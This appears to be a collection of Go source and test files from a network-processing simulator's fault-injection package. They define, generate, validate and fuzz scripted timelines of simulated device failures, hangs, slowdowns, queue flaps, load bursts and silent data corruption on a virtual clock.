				t.Errorf("%s: unexpected error %v", c.name, err)
			}
		} else if err == nil || !strings.Contains(err.Error(), c.err) {
			t.Errorf("%s: error %v, want substring %q", c.name, err, c.err)
		}
	}
}

func TestSortedStable(t *testing.T) {
	ms := simtime.Millisecond
	p := Plan{Events: []Event{
		{At: 3 * ms, Kind: DeviceRecover, Device: 0},
		{At: ms, Kind: RateBurst, RateFactor: 2},
		{At: ms, Kind: DeviceFail, Device: 0}, // same time: must stay after the burst
		{At: 2 * ms, Kind: DeviceHang, Device: 1},
	}}
	got := p.Sorted()
	wantKinds := []Kind{RateBurst, DeviceFail, DeviceHang, DeviceRecover}
	for i, k := range wantKinds {
		if got[i].Kind != k {
			t.Fatalf("sorted[%d].Kind = %s, want %s (order %v)", i, got[i].Kind, k, got)
		}
	}
	// Original plan untouched.
	if p.Events[0].Kind != DeviceRecover {
		t.Fatal("Sorted mutated the plan")
	}
}

func TestHelpers(t *testing.T) {
	ms := simtime.Millisecond
	p := GPUOutage(2*ms, 5*ms, 1)
	if err := p.Validate(2, 1, 1); err != nil {
		t.Fatalf("GPUOutage plan invalid: %v", err)
	}
	if len(p.Events) != 2 || p.Events[0].Kind != DeviceFail || p.Events[1].Kind != DeviceRecover {
		t.Fatalf("unexpected outage plan %v", p.Events)
	}
	if p.Events[0].At != 2*ms || p.Events[1].At != 5*ms {
		t.Fatalf("unexpected outage times %v", p.Events)
	}

	b := Burst(ms, 2*ms, 4)
	if len(b) != 2 || b[0].RateFactor != 4 || b[1].RateFactor != 1 || b[1].At != 3*ms {
		t.Fatalf("unexpected burst events %v", b)
	}
}
