package fault

import (
	"strings"
	"testing"

	"nba/internal/rng"
	"nba/internal/simtime"
)

func TestKindStrings(t *testing.T) {
	for k := Kind(0); k < numKinds; k++ {
		if k.String() == "unknown" || k.String() == "" {
			t.Errorf("kind %d has no name", k)
		}
	}
	if Kind(200).String() != "unknown" {
		t.Errorf("out-of-range kind should stringify as unknown")
	}
}

func TestIsRecovery(t *testing.T) {
	want := map[Kind]bool{
		DeviceFail: false, DeviceRecover: true, DeviceSlowdown: false,
		DeviceHang: false, RxQueueDown: false, RxQueueUp: true, RateBurst: false,
		DeviceCorrupt: false, CorruptRecover: true,
	}
	for k, w := range want {
		if k.IsRecovery() != w {
			t.Errorf("%s: IsRecovery = %v, want %v", k, k.IsRecovery(), w)
		}
	}
}

func TestValidate(t *testing.T) {
	ms := simtime.Millisecond
	cases := []struct {
		name string
		ev   Event
		err  string // substring of the expected error, "" for valid
	}{
		{"fail ok", Event{At: ms, Kind: DeviceFail, Device: 1}, ""},
		{"fail bad device", Event{At: ms, Kind: DeviceFail, Device: 2}, "device 2 of 2"},
		{"negative device", Event{At: ms, Kind: DeviceHang, Device: -1}, "device -1"},
		{"negative time", Event{At: -1, Kind: DeviceFail}, "negative time"},
		{"slowdown ok", Event{At: ms, Kind: DeviceSlowdown, Device: 0, KernelFactor: 2}, ""},
		{"slowdown negative", Event{At: ms, Kind: DeviceSlowdown, Device: 0, CopyFactor: -1}, "negative slowdown"},
		{"rxq ok", Event{At: ms, Kind: RxQueueDown, Port: 3, Queue: -1}, ""},
		{"rxq bad port", Event{At: ms, Kind: RxQueueDown, Port: 4}, "port 4 of 4"},
		{"rxq bad queue", Event{At: ms, Kind: RxQueueUp, Port: 0, Queue: 2}, "queue 2 of 2"},
		{"burst ok", Event{At: ms, Kind: RateBurst, RateFactor: 3}, ""},
		{"burst negative", Event{At: ms, Kind: RateBurst, RateFactor: -0.5}, "negative rate"},
		{"corrupt ok", Event{At: ms, Kind: DeviceCorrupt, Device: 1, CorruptProb: 0.5, FlipPattern: 0xa5}, ""},
		{"corrupt full prob ok", Event{At: ms, Kind: DeviceCorrupt, Device: 0, CorruptProb: 1, FlipPattern: 1}, ""},
		{"corrupt bad device", Event{At: ms, Kind: DeviceCorrupt, Device: 2, CorruptProb: 0.5, FlipPattern: 1}, "device 2 of 2"},
		{"corrupt zero prob", Event{At: ms, Kind: DeviceCorrupt, Device: 0, FlipPattern: 1}, "outside (0,1]"},
		{"corrupt prob over one", Event{At: ms, Kind: DeviceCorrupt, Device: 0, CorruptProb: 1.5, FlipPattern: 1}, "outside (0,1]"},
		{"corrupt zero pattern", Event{At: ms, Kind: DeviceCorrupt, Device: 0, CorruptProb: 0.5}, "zero flip pattern"},
		{"corrupt recover bad device", Event{At: ms, Kind: CorruptRecover, Device: -1}, "device -1"},
		{"unknown kind", Event{At: ms, Kind: numKinds}, "unknown kind"},
	}
	for _, c := range cases {
		p := Plan{Events: []Event{c.ev}}
		err := p.Validate(2, 4, 2)
		if c.err == "" {
			if err != nil {
				t.Errorf("%s: unexpected error %v", c.name, err)
			}
		} else if err == nil || !strings.Contains(err.Error(), c.err) {
			t.Errorf("%s: error %v, want substring %q", c.name, err, c.err)
		}
	}
}

func TestSortedStable(t *testing.T) {
	ms := simtime.Millisecond
	p := Plan{Events: []Event{
		{At: 3 * ms, Kind: DeviceRecover, Device: 0},
		{At: ms, Kind: RateBurst, RateFactor: 2},
		{At: ms, Kind: DeviceFail, Device: 0}, // same time: must stay after the burst
		{At: 2 * ms, Kind: DeviceHang, Device: 1},
	}}
	got := p.Sorted()
	wantKinds := []Kind{RateBurst, DeviceFail, DeviceHang, DeviceRecover}
	for i, k := range wantKinds {
		if got[i].Kind != k {
			t.Fatalf("sorted[%d].Kind = %s, want %s (order %v)", i, got[i].Kind, k, got)
		}
	}
	// Original plan untouched.
	if p.Events[0].Kind != DeviceRecover {
		t.Fatal("Sorted mutated the plan")
	}
}

func TestHelpers(t *testing.T) {
	ms := simtime.Millisecond
	p := GPUOutage(2*ms, 5*ms, 1)
	if err := p.Validate(2, 1, 1); err != nil {
		t.Fatalf("GPUOutage plan invalid: %v", err)
	}
	if len(p.Events) != 2 || p.Events[0].Kind != DeviceFail || p.Events[1].Kind != DeviceRecover {
		t.Fatalf("unexpected outage plan %v", p.Events)
	}
	if p.Events[0].At != 2*ms || p.Events[1].At != 5*ms {
		t.Fatalf("unexpected outage times %v", p.Events)
	}

	b := Burst(ms, 2*ms, 4)
	if len(b) != 2 || b[0].RateFactor != 4 || b[1].RateFactor != 1 || b[1].At != 3*ms {
		t.Fatalf("unexpected burst events %v", b)
	}

	c := Corruption(ms, 4*ms, 1, 0.25, 0x80)
	if err := c.Validate(2, 1, 1); err != nil {
		t.Fatalf("Corruption plan invalid: %v", err)
	}
	if len(c.Events) != 2 || c.Events[0].Kind != DeviceCorrupt || c.Events[1].Kind != CorruptRecover {
		t.Fatalf("unexpected corruption plan %v", c.Events)
	}
	if c.Events[0].CorruptProb != 0.25 || c.Events[0].FlipPattern != 0x80 || c.Events[1].At != 4*ms {
		t.Fatalf("unexpected corruption parameters %v", c.Events)
	}
}

func TestValidateTimeline(t *testing.T) {
	ms := simtime.Millisecond
	cases := []struct {
		name string
		evs  []Event
		err  string // substring of the expected error, "" for valid
	}{
		{"fail recover ok", []Event{
			{At: ms, Kind: DeviceFail, Device: 0},
			{At: 2 * ms, Kind: DeviceRecover, Device: 0},
		}, ""},
		{"double fail", []Event{
			{At: ms, Kind: DeviceFail, Device: 0},
			{At: 2 * ms, Kind: DeviceFail, Device: 0},
		}, "already failed"},
		{"fail during hang", []Event{
			{At: ms, Kind: DeviceHang, Device: 0},
			{At: 2 * ms, Kind: DeviceFail, Device: 0},
		}, "active Hang window"},
		{"hang during fail", []Event{
			{At: ms, Kind: DeviceFail, Device: 0},
			{At: 2 * ms, Kind: DeviceHang, Device: 0},
		}, "active Fail window"},
		{"double hang", []Event{
			{At: ms, Kind: DeviceHang, Device: 0},
			{At: 2 * ms, Kind: DeviceHang, Device: 0},
		}, "already hung"},
		{"slowdown during outage", []Event{
			{At: ms, Kind: DeviceFail, Device: 0},
			{At: 2 * ms, Kind: DeviceSlowdown, Device: 0, KernelFactor: 2},
		}, "active outage"},
		{"recover nominal", []Event{
			{At: ms, Kind: DeviceRecover, Device: 0},
		}, "no prior failure"},
		{"recover after recover", []Event{
			{At: ms, Kind: DeviceFail, Device: 0},
			{At: 2 * ms, Kind: DeviceRecover, Device: 0},
			{At: 3 * ms, Kind: DeviceRecover, Device: 0},
		}, "no prior failure"},
		{"slowdown noop", []Event{
			{At: ms, Kind: DeviceSlowdown, Device: 0},
		}, "both factors zero"},
		{"slowdown recover ok", []Event{
			{At: ms, Kind: DeviceSlowdown, Device: 0, CopyFactor: 3},
			{At: 2 * ms, Kind: DeviceRecover, Device: 0},
		}, ""},
		{"independent devices ok", []Event{
			{At: ms, Kind: DeviceFail, Device: 0},
			{At: 2 * ms, Kind: DeviceHang, Device: 1},
			{At: 3 * ms, Kind: DeviceRecover, Device: 1},
			{At: 4 * ms, Kind: DeviceRecover, Device: 0},
		}, ""},
		{"double queue down", []Event{
			{At: ms, Kind: RxQueueDown, Port: 0, Queue: 1},
			{At: 2 * ms, Kind: RxQueueDown, Port: 0, Queue: 1},
		}, "already down"},
		{"queue up not down", []Event{
			{At: ms, Kind: RxQueueUp, Port: 0, Queue: 0},
		}, "not down"},
		{"wildcard down overlaps single", []Event{
			{At: ms, Kind: RxQueueDown, Port: 0, Queue: 0},
			{At: 2 * ms, Kind: RxQueueDown, Port: 0, Queue: -1},
		}, "already down"},
		{"wildcard flap ok", []Event{
			{At: ms, Kind: RxQueueDown, Port: 0, Queue: -1},
			{At: 2 * ms, Kind: RxQueueUp, Port: 0, Queue: -1},
		}, ""},
		{"same queue index other port ok", []Event{
			{At: ms, Kind: RxQueueDown, Port: 0, Queue: 1},
			{At: 2 * ms, Kind: RxQueueDown, Port: 1, Queue: 1},
		}, ""},
		{"out of order authoring applies in time order", []Event{
			{At: 2 * ms, Kind: DeviceRecover, Device: 0},
			{At: ms, Kind: DeviceFail, Device: 0},
		}, ""},
		{"corrupt window ok", []Event{
			{At: ms, Kind: DeviceCorrupt, Device: 0, CorruptProb: 0.5, FlipPattern: 1},
			{At: 2 * ms, Kind: CorruptRecover, Device: 0},
		}, ""},
		{"double corrupt", []Event{
			{At: ms, Kind: DeviceCorrupt, Device: 0, CorruptProb: 0.5, FlipPattern: 1},
			{At: 2 * ms, Kind: DeviceCorrupt, Device: 0, CorruptProb: 0.5, FlipPattern: 1},
		}, "already corrupting"},
		{"corrupt during fail", []Event{
			{At: ms, Kind: DeviceFail, Device: 0},
			{At: 2 * ms, Kind: DeviceCorrupt, Device: 0, CorruptProb: 0.5, FlipPattern: 1},
		}, "active outage"},
		{"fail during corrupt", []Event{
			{At: ms, Kind: DeviceCorrupt, Device: 0, CorruptProb: 0.5, FlipPattern: 1},
			{At: 2 * ms, Kind: DeviceFail, Device: 0},
		}, "active Corrupt window"},
		{"hang during corrupt", []Event{
			{At: ms, Kind: DeviceCorrupt, Device: 0, CorruptProb: 0.5, FlipPattern: 1},
			{At: 2 * ms, Kind: DeviceHang, Device: 0},
		}, "active Corrupt window"},
		{"corrupt recover not corrupting", []Event{
			{At: ms, Kind: CorruptRecover, Device: 0},
		}, "not corrupting"},
		{"slowdown during corrupt ok", []Event{
			{At: ms, Kind: DeviceCorrupt, Device: 0, CorruptProb: 0.5, FlipPattern: 1},
			{At: 2 * ms, Kind: DeviceSlowdown, Device: 0, KernelFactor: 2},
			{At: 3 * ms, Kind: DeviceRecover, Device: 0},
			{At: 4 * ms, Kind: CorruptRecover, Device: 0},
		}, ""},
		{"corrupt on second device during first's outage ok", []Event{
			{At: ms, Kind: DeviceFail, Device: 0},
			{At: 2 * ms, Kind: DeviceCorrupt, Device: 1, CorruptProb: 0.5, FlipPattern: 1},
		}, ""},
	}
	for _, c := range cases {
		p := Plan{Events: c.evs}
		err := p.Validate(2, 4, 2)
		if c.err == "" {
			if err != nil {
				t.Errorf("%s: unexpected error %v", c.name, err)
			}
		} else if err == nil || !strings.Contains(err.Error(), c.err) {
			t.Errorf("%s: error %v, want substring %q", c.name, err, c.err)
		}
	}
}

func TestKindFromString(t *testing.T) {
	for k := Kind(0); k < numKinds; k++ {
		got, err := KindFromString(k.String())
		if err != nil || got != k {
			t.Errorf("round-trip %s: got %v, %v", k, got, err)
		}
	}
	if _, err := KindFromString("device.explode"); err == nil {
		t.Error("unknown kind string accepted")
	}
}

func TestRandomPlanAlwaysValid(t *testing.T) {
	prof := Profile{
		Horizon: 3 * simtime.Millisecond,
		Devices: 2, Ports: 2, Queues: 2,
	}
	r := rng.New(42)
	for i := 0; i < 500; i++ {
		p := RandomPlan(r, prof) // panics internally if invalid
		if len(p.Events) == 0 {
			continue // an episode can run out of room; rare but legal
		}
		for _, ev := range p.Events {
			if ev.At < 0 || ev.At > prof.Horizon {
				t.Fatalf("plan %d: event outside horizon: %+v", i, ev)
			}
			if ev.At%(10*simtime.Microsecond) != 0 {
				t.Fatalf("plan %d: event time %v off the grid", i, ev.At)
			}
		}
	}
}

func TestRandomPlanDeterministic(t *testing.T) {
	prof := Profile{Horizon: 2 * simtime.Millisecond, Devices: 1, Ports: 1, Queues: 2}
	a := RandomPlan(rng.New(7), prof)
	b := RandomPlan(rng.New(7), prof)
	if len(a.Events) != len(b.Events) {
		t.Fatalf("same seed, different plans: %d vs %d events", len(a.Events), len(b.Events))
	}
	for i := range a.Events {
		if a.Events[i] != b.Events[i] {
			t.Fatalf("same seed, event %d differs: %+v vs %+v", i, a.Events[i], b.Events[i])
		}
	}
	if c := RandomPlan(rng.New(8), prof); len(c.Events) == len(a.Events) {
		same := true
		for i := range c.Events {
			if c.Events[i] != a.Events[i] {
				same = false
				break
			}
		}
		if same {
			t.Fatal("different seeds produced identical plans")
		}
	}
}

// TestRandomPlanGeneratesCorruption: the generator's episode mix must
// include silent-corruption windows, and every generated corruption event
// must carry in-range parameters (the validator would panic inside
// RandomPlan otherwise, but pin the bounds explicitly).
func TestRandomPlanGeneratesCorruption(t *testing.T) {
	prof := Profile{Horizon: 3 * simtime.Millisecond, Devices: 2, Ports: 2, Queues: 2}
	r := rng.New(42)
	corruptEvents := 0
	for i := 0; i < 500; i++ {
		for _, ev := range RandomPlan(r, prof).Events {
			if ev.Kind != DeviceCorrupt {
				continue
			}
			corruptEvents++
			if ev.CorruptProb <= 0 || ev.CorruptProb > 1 {
				t.Fatalf("plan %d: corruption probability %v outside (0,1]", i, ev.CorruptProb)
			}
			if ev.FlipPattern == 0 {
				t.Fatalf("plan %d: zero flip pattern", i)
			}
		}
	}
	if corruptEvents == 0 {
		t.Fatal("500 random plans generated no corruption episode")
	}
}
