package fault

import (
	"fmt"

	"nba/internal/rng"
	"nba/internal/simtime"
)

// Profile bounds what RandomPlan may generate. It carries the topology the
// plan must be valid against and the run horizon faults must land inside.
type Profile struct {
	// Horizon is the window fault events are placed in (measurement start
	// to end of run). Must be positive.
	Horizon simtime.Time
	// Devices / Ports / Queues mirror the run topology the plan targets.
	Devices, Ports, Queues int
	// MaxEpisodes caps the number of fault episodes (an episode is one
	// outage/flap/burst window, usually two events). Default 4.
	MaxEpisodes int
	// OpenEnded is the probability that an episode never recovers within
	// the horizon — an outage the run must survive to the end. Default 0.2.
	OpenEnded float64
}

func (p Profile) withDefaults() Profile {
	if p.MaxEpisodes <= 0 {
		p.MaxEpisodes = 4
	}
	if p.OpenEnded == 0 {
		p.OpenEnded = 0.2
	}
	return p
}

// timeGrid quantises generated event times so plans are stable, diffable
// and shrink to tidy reproducers.
const timeGrid = 10 * simtime.Microsecond

// overloadMinDur is the minimum duration of a sustained-overload episode:
// long enough (≥ 1 ms) for interior queues to fill and the overload
// governor's windows to observe saturation, not just a transient blip.
const overloadMinDur = simtime.Millisecond

// RandomPlan generates a valid, bounded fault plan from the seeded rng —
// the chaos-search input generator. Plans are valid by construction (each
// target keeps a forward-moving time cursor, windows are paired or
// deliberately open-ended), and validity is re-checked before returning:
// a generator bug is a panic, not a silently skewed search space.
//
// The same (rng state, profile) always yields the same plan, so a chaos
// case is fully identified by its seed.
func RandomPlan(r *rng.Rand, prof Profile) *Plan {
	prof = prof.withDefaults()
	if prof.Horizon <= 0 {
		panic(fmt.Sprintf("fault: RandomPlan horizon %v", prof.Horizon))
	}

	// Per-target cursors: the earliest time the next episode on that target
	// may begin. Keeping cursors strictly forward makes overlap on a single
	// target impossible while still allowing overlapping episodes across
	// targets (a queue flap during a device hang, say).
	devCursor := make([]simtime.Time, prof.Devices)
	queueCursor := make([]simtime.Time, prof.Ports*prof.Queues)
	var rateCursor simtime.Time

	quant := func(t simtime.Time) simtime.Time {
		q := t / timeGrid * timeGrid
		if q < 0 {
			q = 0
		}
		return q
	}
	// window picks a start at or after cursor and a duration, both inside
	// the horizon; ok is false when the cursor has run out of room.
	window := func(cursor simtime.Time) (start, end simtime.Time, ok bool) {
		room := prof.Horizon - cursor
		if room < 4*timeGrid {
			return 0, 0, false
		}
		start = quant(cursor + simtime.Time(r.Float64()*float64(room)*0.5))
		if start < cursor {
			start = cursor
		}
		maxDur := float64(prof.Horizon - start)
		dur := quant(simtime.Time(maxDur * (0.1 + 0.8*r.Float64())))
		if dur < timeGrid {
			dur = timeGrid
		}
		return start, start + dur, true
	}

	plan := &Plan{}
	episodes := 1 + r.Intn(prof.MaxEpisodes)
	for e := 0; e < episodes; e++ {
		// Weighted pick over the episode kinds the topology supports.
		kinds := []int{4} // rate burst always possible
		if prof.Devices > 0 {
			kinds = append(kinds, 0, 1, 2, 6)
		}
		if prof.Ports > 0 && prof.Queues > 0 {
			kinds = append(kinds, 3)
		}
		if prof.Horizon >= overloadMinDur+4*timeGrid {
			kinds = append(kinds, 5) // sustained overload fits the horizon
		}
		switch kinds[r.Intn(len(kinds))] {
		case 0: // fail → recover
			dev := r.Intn(prof.Devices)
			start, end, ok := window(devCursor[dev])
			if !ok {
				continue
			}
			plan.Events = append(plan.Events, Event{At: start, Kind: DeviceFail, Device: dev})
			if r.Bool(prof.OpenEnded) {
				devCursor[dev] = prof.Horizon // stays failed to the end
				continue
			}
			plan.Events = append(plan.Events, Event{At: end, Kind: DeviceRecover, Device: dev})
			devCursor[dev] = end + timeGrid
		case 1: // hang → recover (open-ended hangs rely on the task timeout)
			dev := r.Intn(prof.Devices)
			start, end, ok := window(devCursor[dev])
			if !ok {
				continue
			}
			plan.Events = append(plan.Events, Event{At: start, Kind: DeviceHang, Device: dev})
			if r.Bool(prof.OpenEnded) {
				devCursor[dev] = prof.Horizon
				continue
			}
			plan.Events = append(plan.Events, Event{At: end, Kind: DeviceRecover, Device: dev})
			devCursor[dev] = end + timeGrid
		case 2: // slowdown → recover
			dev := r.Intn(prof.Devices)
			start, end, ok := window(devCursor[dev])
			if !ok {
				continue
			}
			factor := 1.5 + r.Float64()*6.5 // 1.5x .. 8x
			plan.Events = append(plan.Events, Event{
				At: start, Kind: DeviceSlowdown, Device: dev,
				KernelFactor: factor, CopyFactor: factor,
			})
			plan.Events = append(plan.Events, Event{At: end, Kind: DeviceRecover, Device: dev})
			devCursor[dev] = end + timeGrid
		case 3: // queue flap: down → up
			port := r.Intn(prof.Ports)
			queue := r.Intn(prof.Queues)
			qi := port*prof.Queues + queue
			start, end, ok := window(queueCursor[qi])
			if !ok {
				continue
			}
			plan.Events = append(plan.Events, Event{At: start, Kind: RxQueueDown, Port: port, Queue: queue})
			if r.Bool(prof.OpenEnded) {
				queueCursor[qi] = prof.Horizon
				continue
			}
			plan.Events = append(plan.Events, Event{At: end, Kind: RxQueueUp, Port: port, Queue: queue})
			queueCursor[qi] = end + timeGrid
		case 4: // rate burst or dip, restored at the end of the window
			start, end, ok := window(rateCursor)
			if !ok {
				continue
			}
			var factor float64
			if r.Bool(0.5) {
				factor = 1.25 + r.Float64()*2.75 // burst 1.25x .. 4x
			} else {
				factor = 0.25 + r.Float64()*0.5 // dip 0.25x .. 0.75x
			}
			plan.Events = append(plan.Events, Event{At: start, Kind: RateBurst, RateFactor: factor})
			plan.Events = append(plan.Events, Event{At: end, Kind: RateBurst, RateFactor: 1})
			rateCursor = end + timeGrid
		case 5: // sustained overload: ≥ 2x offered load for ≥ 1 ms
			room := prof.Horizon - rateCursor
			if room < overloadMinDur+4*timeGrid {
				continue
			}
			start := quant(rateCursor + simtime.Time(r.Float64()*float64(room-overloadMinDur)*0.5))
			if start < rateCursor {
				start = rateCursor
			}
			extra := float64(prof.Horizon - start - overloadMinDur)
			dur := overloadMinDur + quant(simtime.Time(extra*r.Float64()*0.5))
			factor := 2 + r.Float64()*2 // 2x .. 4x
			plan.Events = append(plan.Events, Event{At: start, Kind: RateBurst, RateFactor: factor})
			plan.Events = append(plan.Events, Event{At: start + dur, Kind: RateBurst, RateFactor: 1})
			rateCursor = start + dur + timeGrid
		case 6: // silent corruption → recover (sharing the device cursor
			// keeps corruption windows disjoint from outages by construction)
			dev := r.Intn(prof.Devices)
			start, end, ok := window(devCursor[dev])
			if !ok {
				continue
			}
			prob := 0.25 + r.Float64()*0.75  // 0.25 .. 1.0 per aggregate
			pattern := byte(1 + r.Intn(255)) // any nonzero XOR mask
			plan.Events = append(plan.Events, Event{
				At: start, Kind: DeviceCorrupt, Device: dev,
				CorruptProb: prob, FlipPattern: pattern,
			})
			if r.Bool(prof.OpenEnded) {
				devCursor[dev] = prof.Horizon // corrupts to the end of the run
				continue
			}
			plan.Events = append(plan.Events, Event{At: end, Kind: CorruptRecover, Device: dev})
			devCursor[dev] = end + timeGrid
		}
	}

	if err := plan.Validate(prof.Devices, prof.Ports, prof.Queues); err != nil {
		panic(fmt.Sprintf("fault: RandomPlan generated an invalid plan: %v", err))
	}
	return plan
}
