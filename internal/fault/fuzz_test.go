package fault

import (
	"encoding/json"
	"reflect"
	"testing"

	"nba/internal/simtime"
)

// FuzzPlanJSON is the plan-serialisation fixed-point fuzzer: any JSON that
// unmarshals into a Plan must survive marshal -> unmarshal unchanged, and
// Validate must agree on both copies (a reproducer attached to a bug report
// must mean the same run after any number of round trips).
func FuzzPlanJSON(f *testing.F) {
	seed := func(p *Plan) {
		data, err := json.Marshal(p)
		if err != nil {
			f.Fatal(err)
		}
		f.Add(data)
	}
	ms := simtime.Millisecond
	seed(GPUOutage(ms, 2*ms, 0))
	seed(Corruption(ms, 2*ms, 1, 0.5, 0xa5))
	seed(&Plan{Events: []Event{
		{At: ms, Kind: DeviceSlowdown, Device: 0, KernelFactor: 4, CopyFactor: 2},
		{At: 2 * ms, Kind: RateBurst, RateFactor: 3},
		{At: 3 * ms, Kind: RxQueueDown, Port: 1, Queue: -1},
	}})
	f.Add([]byte(`{"Events":[{"Kind":7,"CorruptProb":1e308,"FlipPattern":255}]}`))
	f.Add([]byte(`{not json`))

	f.Fuzz(func(t *testing.T, data []byte) {
		var p Plan
		if err := json.Unmarshal(data, &p); err != nil {
			return // malformed input: must only be rejected, never panic
		}
		out, err := json.Marshal(&p)
		if err != nil {
			t.Fatalf("marshal of unmarshalled plan failed: %v", err)
		}
		var p2 Plan
		if err := json.Unmarshal(out, &p2); err != nil {
			t.Fatalf("re-unmarshal failed: %v", err)
		}
		if !reflect.DeepEqual(p, p2) {
			t.Fatalf("round trip not a fixed point:\n%+v\nvs\n%+v", p, p2)
		}
		e1 := p.Validate(2, 2, 2)
		e2 := p2.Validate(2, 2, 2)
		if (e1 == nil) != (e2 == nil) {
			t.Fatalf("Validate disagrees across round trip: %v vs %v", e1, e2)
		}
	})
}
