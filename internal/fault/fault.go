// Package fault is the deterministic fault-injection subsystem: scripted
// timelines of device/NIC/load faults that the framework schedules on the
// virtual clock and reacts to by degrading gracefully instead of wedging.
//
// A Plan is pure data. Like the traffic generator and the seed, it is part
// of a run's identity: the same configuration + seed + plan always produce
// the same trace digest, so fault scenarios are replayable and diffable
// exactly like fault-free runs (DESIGN.md §9). Fault application points emit
// trace.KindFaultInject / trace.KindFaultRecover events, so nbatrace shows
// the fault timeline next to the framework's reactions.
//
// The event vocabulary covers the degradation modes the paper's robustness
// claim (§3.4: near-optimal throughput "without application- or
// hardware-specific knowledge" as conditions shift) must survive:
//
//	DeviceFail / DeviceRecover — the accelerator disappears (driver reset,
//	    Xid error); in-flight and new tasks complete immediately as failed
//	    and the workers re-execute them on the CPU.
//	DeviceSlowdown — thermal throttling or PCIe contention: kernel times
//	    and copy times are scaled by per-event factors.
//	DeviceHang — the device stops completing tasks (TDR-style wedge) until
//	    recovery; the workers' task-completion timeout rescues the stuck
//	    aggregates on the CPU.
//	RxQueueDown / RxQueueUp — a NIC queue flaps: arrivals keep accruing and
//	    overflow into drop counters, but no packets are delivered.
//	RateBurst — the offered load is scaled by a factor (use a second event
//	    with factor 1 to end the burst).
//	DeviceCorrupt / CorruptRecover — the device silently returns wrong
//	    results: completed aggregates have bytes flipped with a seeded
//	    per-event RNG stream. Detection and containment live in
//	    internal/integrity (sentinel re-execution, quarantine, demotion).
package fault

import (
	"fmt"
	"sort"

	"nba/internal/simtime"
)

// Kind classifies fault events.
type Kind uint8

const (
	// DeviceFail marks a device failed at Event.At: in-flight tasks fail
	// immediately, and submissions fail until DeviceRecover.
	DeviceFail Kind = iota
	// DeviceRecover restores a failed, hung or slowed device to nominal.
	DeviceRecover
	// DeviceSlowdown scales the device's kernel and copy times by
	// KernelFactor / CopyFactor (>= 1 slows the device; 1 is nominal).
	DeviceSlowdown
	// DeviceHang freezes task completion: tasks submitted or in flight
	// neither complete nor fail until DeviceRecover.
	DeviceHang
	// RxQueueDown stops packet delivery from the queue(s); arrivals keep
	// accruing and overflow into the drop counters.
	RxQueueDown
	// RxQueueUp restores packet delivery.
	RxQueueUp
	// RateBurst scales the current offered load by RateFactor. A second
	// RateBurst with factor 1 restores the nominal rate.
	RateBurst
	// DeviceCorrupt starts a silent-data-corruption window: each offloaded
	// aggregate completing on the device is, with probability CorruptProb,
	// corrupted by XORing FlipPattern into one byte of every live packet.
	// The byte offsets and the per-aggregate coin come from an RNG stream
	// seeded from (run seed, event time, device), so the corruption is part
	// of the run identity like every other fault.
	DeviceCorrupt
	// CorruptRecover ends the corruption window. (DeviceRecover does not:
	// corruption is orthogonal to the fail/hang/slow health state.)
	CorruptRecover

	numKinds
)

var kindNames = [numKinds]string{
	"device.fail",
	"device.recover",
	"device.slowdown",
	"device.hang",
	"rxq.down",
	"rxq.up",
	"rate.burst",
	"device.corrupt",
	"corrupt.recover",
}

func (k Kind) String() string {
	if int(k) < len(kindNames) {
		return kindNames[k]
	}
	return "unknown"
}

// KindFromString parses a Kind's String form (reproducer plan files).
func KindFromString(s string) (Kind, error) {
	for i, name := range kindNames {
		if name == s {
			return Kind(i), nil
		}
	}
	return 0, fmt.Errorf("fault: unknown kind %q", s)
}

// IsRecovery reports whether the kind restores capacity rather than taking
// it away (used to pick the trace event kind).
func (k Kind) IsRecovery() bool {
	return k == DeviceRecover || k == RxQueueUp || k == CorruptRecover
}

// Event is one scheduled fault. Only the fields relevant to the Kind are
// read; the rest stay zero.
type Event struct {
	// At is the virtual time the fault is applied.
	At   simtime.Time
	Kind Kind

	// Device indexes Topology.Devices (device events).
	Device int
	// Port indexes Topology.Ports and Queue the port's RX queues (RX-queue
	// events). Queue -1 targets every queue of the port.
	Port  int
	Queue int

	// KernelFactor / CopyFactor scale kernel and copy times (DeviceSlowdown;
	// >= 1 slows the device, 1 is nominal; 0 means "leave unchanged").
	KernelFactor float64
	CopyFactor   float64

	// RateFactor scales the offered load (RateBurst; must be >= 0).
	RateFactor float64

	// CorruptProb is the per-aggregate corruption probability of a
	// DeviceCorrupt window (must be in (0, 1]).
	CorruptProb float64
	// FlipPattern is the byte XORed into corrupted payloads (DeviceCorrupt;
	// must be nonzero — a zero XOR would be a no-op window).
	FlipPattern byte
}

// Plan is a scripted fault timeline. The zero value is an empty plan.
type Plan struct {
	Events []Event
}

// Validate checks the plan against the run's topology (ndev devices, nports
// ports with nqueues RX queues each) and then replays the events in
// application order through a per-target state machine, rejecting
// contradictory timelines: failing an already-failed device, hanging a
// device inside an active fail window, recovering a nominal device, a
// no-op slowdown, or flapping a queue into the state it is already in.
// Contradictions are always authoring bugs — the framework would apply them
// as silent no-ops, making the plan lie about what the run experienced.
func (p *Plan) Validate(ndev, nports, nqueues int) error {
	for i, ev := range p.Events {
		if ev.At < 0 {
			return fmt.Errorf("fault: event %d (%s) at negative time %v", i, ev.Kind, ev.At)
		}
		switch ev.Kind {
		case DeviceFail, DeviceRecover, DeviceHang:
			if ev.Device < 0 || ev.Device >= ndev {
				return fmt.Errorf("fault: event %d (%s) targets device %d of %d", i, ev.Kind, ev.Device, ndev)
			}
		case DeviceSlowdown:
			if ev.Device < 0 || ev.Device >= ndev {
				return fmt.Errorf("fault: event %d (%s) targets device %d of %d", i, ev.Kind, ev.Device, ndev)
			}
			if ev.KernelFactor < 0 || ev.CopyFactor < 0 {
				return fmt.Errorf("fault: event %d (%s) has negative slowdown factors", i, ev.Kind)
			}
			if ev.KernelFactor == 0 && ev.CopyFactor == 0 {
				return fmt.Errorf("fault: event %d (%s) is a no-op: both factors zero", i, ev.Kind)
			}
		case RxQueueDown, RxQueueUp:
			if ev.Port < 0 || ev.Port >= nports {
				return fmt.Errorf("fault: event %d (%s) targets port %d of %d", i, ev.Kind, ev.Port, nports)
			}
			if ev.Queue < -1 || ev.Queue >= nqueues {
				return fmt.Errorf("fault: event %d (%s) targets queue %d of %d", i, ev.Kind, ev.Queue, nqueues)
			}
		case RateBurst:
			if ev.RateFactor < 0 {
				return fmt.Errorf("fault: event %d (%s) has negative rate factor %v", i, ev.Kind, ev.RateFactor)
			}
		case DeviceCorrupt:
			if ev.Device < 0 || ev.Device >= ndev {
				return fmt.Errorf("fault: event %d (%s) targets device %d of %d", i, ev.Kind, ev.Device, ndev)
			}
			if ev.CorruptProb <= 0 || ev.CorruptProb > 1 {
				return fmt.Errorf("fault: event %d (%s) has corruption probability %v outside (0,1]", i, ev.Kind, ev.CorruptProb)
			}
